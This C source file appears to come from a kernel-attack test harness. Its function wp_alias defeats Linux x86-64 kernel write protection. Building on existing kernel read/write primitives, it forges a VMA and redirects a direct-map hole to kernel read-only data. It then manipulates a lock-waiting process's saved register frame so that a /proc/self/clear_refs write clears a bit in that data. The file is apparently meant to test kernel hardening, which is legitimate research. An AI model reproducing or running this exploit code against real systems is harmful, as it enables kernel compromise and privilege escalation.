// SPDX-License-Identifier: GPL-2.0-only
/*
 * Write protection: read-only data of the kernel has no key, and may be mapped read-only
 * anywhere. Here a hole of the direct map leads there, which is ordinary by its number.
 * A section clears the accessed bit in it, with CR0.WP clear.
 */
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "chunk.h"
#include "list.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define OWN_PART	0x5a
#define LIKE_PART	0x5b
#define HELPER_CPU	1
#define LATER		400000	/* microseconds */
#define WAITS		"queued_spin_lock_slowpath"
#define WAITS_LENGTH	0x300
#define TABLE_LOCK	40
#define FRAME_R15	0
#define HOLE		(100UL << 30)
#define WORDS		512

static struct {
	volatile bool ready;
	volatile unsigned int asked, done;
	volatile uint64_t lock, place;
} *shared;

static pid_t child;

static void clear_refs_for_ever(void)
{
	volatile char *own = mmap((void *)user_room(OWN_PART), PAGE_SIZE, PROT_READ | PROT_WRITE,
				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	int fd = open("/proc/self/clear_refs", O_WRONLY);
	const struct itimerval once = { { 0, 0 }, { 0, LATER } };
	struct slot slot;

	stay_on_cpu(HELPER_CPU);
	heed_alarms();
	own[0] = 1;
	if (fd < 0 || kwalk((uint64_t)own, LEVEL_PTE, 0, &slot))
		_exit(1);
	shared->place = slot.slot;
	shared->lock = page_of(slot.slot) + TABLE_LOCK;
	shared->ready = true;
	for (;;) {
		usleep(1000);
		if (shared->done == shared->asked)
			continue;
		own[0] = 1;
		setitimer(ITIMER_REAL, &once, NULL);
		(void)!write(fd, "1", 1);
		shared->done++;
	}
}

static bool start_child(void)
{
	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	child = fork();
	if (!child)
		clear_refs_for_ever();
	while (!shared->ready)
		if (waitpid(child, NULL, WNOHANG))
			return false;
	return true;
}

struct aim {
	uint64_t place, at;
	int changed;
	bool stays;
};

static void change_frame(void *data, uint64_t at, const uint64_t *frame)
{
	struct aim *aim = data;

	if (frame[FRAME_R15] != shared->place)
		return;
	kwrite64(at + FRAME_R15 * sizeof(*frame), aim->place);
	aim->at = at;
	aim->changed++;
}

static int clear_at(uint64_t place)
{
	struct aim aim = { place, 0, 0, false };
	uint64_t lock, function = ksymbol(WAITS);
	struct task task;
	int i;

	if (!function || ktask(child, &task))
		return -1;
	lock = find_signal_lock(&task);
	if (!lock)
		return -2;
	set_lock(shared->lock, true);
	shared->asked++;
	usleep(LATER / 4);
	set_lock(lock, true);
	usleep(LATER * 2);
	find_frames(&task, function, WAITS_LENGTH, change_frame, &aim);
	usleep(LATER / 4);
	aim.stays = kread64(aim.at) == aim.place;
	set_lock(lock, false);
	usleep(LATER / 4);
	set_lock(shared->lock, false);
	for (i = 0; i < 200 && shared->done != shared->asked; i++)
		usleep(5000);
	return aim.stays ? aim.changed : -3;
}

static bool lead_address_to(volatile char *like, uint64_t at, uint64_t phys, uint64_t prot)
{
	uint64_t zero = ksymbol("zero_pfn"), old = kread64(zero), vma, entry;
	char byte;
	struct iovec to = { &byte, 1 }, from = { (void *)at, 1 };
	struct task task;
	struct slot slot;

	if (!zero || ktask(0, &task))
		return false;
	entry = find_empty_entry(task.mm, at);
	vma = forge_vma(like, at, prot);
	if (!entry || !vma)
		return false;
	kwrite64(entry, vma);
	kwrite64(zero, phys / PAGE_SIZE);
	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
	kwrite64(zero, old);
	kwrite64(entry, 0);
	return !kwalk(at, LEAF, 0, &slot) && slot.value && (slot.phys & -PAGE_SIZE) == phys;
}

static bool is_usable(uint64_t seen)
{
	return (seen & PTE_PRESENT) && (seen & PTE_ACCESSED) && !(seen & 1 << 9) && seen >> 28 == 0;
}

static uint64_t find_word_of_rodata(void)
{
	uint64_t at = ksymbol("__start_rodata"), end = ksymbol("__end_rodata"), words[WORDS];
	int i;

	for (; at && at < end; at += PAGE_SIZE) {
		if (kread(at, words, sizeof(words)))
			continue;
		for (i = 0; i < WORDS; i++)
			if (is_usable(words[i]))
				return at + i * sizeof(*words);
	}
	return 0;
}

enum outcome wp_alias(void)
{
	uint64_t word, before, after, hole = direct_map_base() + HOLE;
	volatile char *like;
	struct slot slot;
	int changed;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!start_child())
		return broken("no process that clears accessed bits");
	stay_on_cpu(0);
	like = map_small_pages(LIKE_PART, PAGE_SIZE);
	if (!like)
		return broken("no page");
	like[0] = 1;
	word = find_word_of_rodata();
	if (!word || kwalk(word, LEAF, 0, &slot))
		return broken("no word of read-only data looks like an entry");
	before = kread64(word);
	if (!lead_address_to(like, hole, slot.phys & -PAGE_SIZE,
			     (PTE_KERNEL_RW & ~PTE_RW) & ~PTE_DIRTY))
		return lost("the hole of the direct map leads to no read-only data");
	changed = clear_at(hole + word % PAGE_SIZE);
	after = kread64(word);
	if (changed <= 0)
		return broken("nothing waited (%d)", changed);
	if (after == before)
		return lost("the word is what it was, 0x%lx", after);
	return won("read-only data of the kernel at 0x%lx was 0x%lx, and is 0x%lx", word, before, after);
}
#else
enum outcome wp_alias(void)
{
	return skipped("x86-64 only");
}
#endif
